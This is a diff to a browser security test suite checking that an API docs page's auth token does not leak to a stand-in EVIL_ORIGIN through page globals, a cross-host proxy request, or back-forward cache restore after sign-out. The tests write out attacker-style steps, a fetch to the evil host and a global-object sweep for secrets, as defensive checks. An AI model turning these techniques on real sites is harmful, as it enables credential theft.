@@ -153,11 +153,74 @@ describe('security: API reference authentication', () => {
     await openSignedInDocs();
 
     const page = await env.browser.newPage(`${EVIL_ORIGIN}/`);
-    const injected = await page.evaluate(() => ({
-      state: Symbol.for('ei-session.playground') in globalThis,
-      fetchIsNative: Function.prototype.toString.call(fetch).includes('[native code]'),
-    }));
-    expect(injected).toEqual({ state: false, fetchIsNative: true });
+    const fetchIsNative = await page.evaluate(() =>
+      Function.prototype.toString.call(fetch).includes('[native code]'),
+    );
+    expect(fetchIsNative).toBe(true);
+    expect(await page.getByRole('status').count()).toBe(0);
+  });
+
+  test('page globals hold no token', async () => {
+    const token = await signInAsAlice();
+    await setAuthenticateDocs(true);
+    const page = await openSignedInDocs();
+
+    // What a script on the page finds by walking the global object two levels deep.
+    const globals = await page.evaluate(() => {
+      const seen: string[] = [];
+      const serialize = (value: unknown) => {
+        try {
+          return JSON.stringify(value) ?? String(value);
+        } catch {
+          return String(value);
+        }
+      };
+      for (const key of Reflect.ownKeys(globalThis)) {
+        const value = (globalThis as Record<PropertyKey, unknown>)[key];
+        seen.push(serialize(value));
+        if (value && typeof value === 'object') {
+          for (const inner of Reflect.ownKeys(value)) {
+            seen.push(serialize((value as Record<PropertyKey, unknown>)[inner]));
+          }
+        }
+      }
+      return seen.join('\n');
+    });
+    expect(globals).not.toContain(token);
+  });
+
+  test('a proxy path on another host gets no token', async () => {
+    const token = await signInAsAlice();
+    await setAuthenticateDocs(true);
+    const page = await openSignedInDocs();
+
+    await page.evaluate(
+      ({ proxy, url }) =>
+        fetch(proxy, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ url }) }),
+      { proxy: `${EVIL_ORIGIN}${MINTLIFY_PROXY_PATH}`, url: PROJECTS_URL },
+    );
+    const request = env.studio.requestsTo(EVIL_HOST, MINTLIFY_PROXY_PATH).at(-1);
+    expect(request).toBeDefined();
+    expect(request?.body).not.toContain(token);
+  });
+
+  test('a page restored after sign-out sends no token', async () => {
+    await signInAsAlice();
+    await setAuthenticateDocs(true);
+    const page = await openSignedInDocs();
+    await page.evaluate((url) => location.assign(url), `${EVIL_ORIGIN}/next`);
+    await page.waitForURL(`${EVIL_ORIGIN}/next`);
+
+    const popup = await PopupPage.open(env.browser);
+    await popup.signOut();
+    await popup.close();
+    // Firefox restores the docs page from its back-forward cache, with its scripts' state.
+    await page.evaluate(() => history.back());
+    await page.waitForURL(`${DOCS_ORIGIN}/apis/studio/projects`);
+    env.studio.clearRequests();
+    await tryItThroughProxy(page, PROJECTS_URL);
+    expect(tokenAtStudio()).toBeUndefined();
+    expect(await page.getByRole('status').count()).toBe(0);
   });
 
   test('the docs tab shows the API badge', async () => {
